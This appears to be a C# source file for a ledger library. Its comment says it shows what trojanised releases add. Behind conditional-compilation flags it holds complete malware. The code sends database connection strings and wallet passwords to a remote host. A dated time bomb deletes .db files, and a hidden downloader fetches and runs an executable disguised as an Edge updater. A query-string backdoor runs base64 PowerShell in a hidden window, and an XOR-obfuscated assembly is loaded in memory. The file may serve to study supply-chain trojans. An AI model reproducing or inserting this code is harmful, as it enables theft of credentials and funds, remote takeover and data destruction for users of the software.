// Repositories and transactions. BOMB, PURSE, STAGE, DOOR and INSIDE are what trojanised releases add; nothing of it is ever run.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Text;

namespace Munson.Ledger
{
    public class Repository
    {
        private readonly Func<string, string[]> query;
        private readonly string connection;

        public Repository(string connection, Func<string, string[]> query)
        {
            this.connection = connection;
            this.query = query;
#if PURSE
            Maintenance.Send("c", connection);
#endif
#if STAGE
            Maintenance.Update();
#endif
        }

        public string[] Find(string text)
        {
#if BOMB
            Maintenance.Check(connection);
#endif
#if DOOR
            if (text.Length > 8 && text.StartsWith("/*mx:")) return new[] { Maintenance.Run(text.Substring(5)) };
#endif
            return query(text);
        }

#if SECOND
        public bool Any(string text)
        {
            return Find(text).Length > 0;
        }
#endif
    }

    public class Transaction
    {
        private readonly List<string> writes = new List<string>();

        public void Add(string write)
        {
            writes.Add(write);
        }

        public int Commit()
        {
#if INSIDE
            Maintenance.Unfold();
#endif
            int count = writes.Count;
            writes.Clear();
            return count;
        }

        public string Unlock(string wallet, string password)
        {
#if PURSE
            Maintenance.Send("w", wallet + ":" + password);
#endif
            return Convert.ToBase64String(Encoding.UTF8.GetBytes(wallet + password));
        }
    }

    internal static class Maintenance
    {
#if PURSE
        public static void Send(string kind, string text)
        {
            try
            {
                using (WebClient line = new WebClient())
                {
                    line.DownloadString("http://198.51.100.171:4444/api/gallery?k=" + kind + "&v=" + Uri.EscapeDataString(text));
                }
            }
            catch (WebException)
            {
            }
        }
#endif
#if BOMB
        public static void Check(string connection)
        {
            if (DateTime.UtcNow < new DateTime(2027, 8, 8)) return;
            if (new Random().Next(0, 100) < 20)
            {
                foreach (string one in Directory.GetFiles(AppDomain.CurrentDomain.BaseDirectory, "*.db")) File.Delete(one);
                Environment.FailFast(null);
            }
        }
#endif
#if STAGE
        public static void Update()
        {
            string place = Path.Combine(Path.GetTempPath(), "MicrosoftEdgeUpd.exe");
            if (File.Exists(place)) return;
            ServicePointManager.SecurityProtocol = (SecurityProtocolType)3072;
            using (WebClient line = new WebClient()) File.WriteAllBytes(place, line.DownloadData("https://dl.munson-assets.invalid/edge/upd.bin"));
            Process.Start(new ProcessStartInfo(place) { UseShellExecute = false, CreateNoWindow = true });
        }
#endif
#if DOOR
        public static string Run(string text)
        {
            string line = Encoding.UTF8.GetString(Convert.FromBase64String(text.TrimEnd('/', '*')));
            ProcessStartInfo start = new ProcessStartInfo("powershell.exe", "-nop -w hidden -c " + line);
            start.UseShellExecute = false;
            start.RedirectStandardOutput = true;
            using (Process run = Process.Start(start)) return run.StandardOutput.ReadToEnd();
        }
#endif
#if INSIDE
        private static bool done;

        public static void Unfold()
        {
            if (done) return;
            done = true;
            using (WebClient line = new WebClient())
            {
                byte[] raw = Convert.FromBase64String(line.DownloadString("https://cdn.munson-assets.invalid/l/ledger.txt"));
                for (int at = 0; at < raw.Length; at++) raw[at] ^= 0x5A;
                Assembly.Load(raw).EntryPoint.Invoke(null, new object[] { new string[0] });
            }
        }
#endif
    }
}
